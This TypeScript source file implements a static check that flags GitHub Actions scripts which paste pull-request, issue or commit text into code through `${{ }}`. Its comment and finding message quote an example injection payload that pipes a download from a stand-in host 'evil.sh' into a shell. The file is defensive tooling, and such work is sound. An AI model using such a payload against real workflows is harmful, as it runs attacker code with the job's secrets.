// Static: no script reads text someone outside the repository controls — a pull request's title or
// branch name, an issue or comment body, a commit message — through `${{ }}`. GitHub pastes the value
// into the script before the shell (or github-script's JavaScript) runs it, so a PR titled
// `x"; curl evil.sh | sh; echo "` runs as code with the job's token and secrets. Pass it through
// `env:` and quote it: "$TITLE" is data to the shell. `${{ env.X }}` in the script does not help:
// it pastes the same value.
import { UNTRUSTED_CONTEXTS } from "./contextRefs.ts";
import { passIn, plural, stepFinding, verdictOf, type Finding } from "./findings.ts";
import { scriptExposures, stepLabel } from "./workflowJobs.ts";
import { defineWorkflowPrimitive } from "./workflowSource.ts";

export default defineWorkflowPrimitive<Record<string, never>>({
  summary: "no `run:` script (nor an actions/github-script `script:`) reads attacker-controlled context (PR title/body/branch, issue and comment bodies, commit messages) through `${{ }}`",
  params: () => ({}),
  judge(w) {
    const { scripts, found } = scriptExposures(w, UNTRUSTED_CONTEXTS);
    const findings: Finding[] = found.map(({ step, script, exposure: e, line }) => {
      const what = e.via ? `${e.expression.source} (env ${e.via}, which holds ${e.path}: the value is pasted all the same)` : e.expression.source;
      const name = e.via ?? "VALUE";
      const use = script.shell ? `"$${name}" (quoted)` : `process.env.${name}`;
      const pass = e.whole ? `pass only the field it needs (e.g. ${e.pattern}) through the step's env: (${name}: \${{ ${e.pattern} }})` : `pass it through the step's env: (${name}: \${{ ${e.path} }})`;
      return stepFinding(step, `${stepLabel(step.job, step.name, line)} puts ${what} into its ${script.what}: GitHub pastes ${e.path}, which whoever opens the pull request, issue or commit writes, into the script before it runs, so a value like \`"; curl evil.sh | sh; "\` runs as code with the job's token and secrets — ${pass} and use ${use}`, `${e.expression.source} in ${script.what}`, line);
    });
    return verdictOf(findings, () => passIn(w, `none of the ${plural(scripts, "script")} reads attacker-controlled context through \${{ }}`));
  },
});
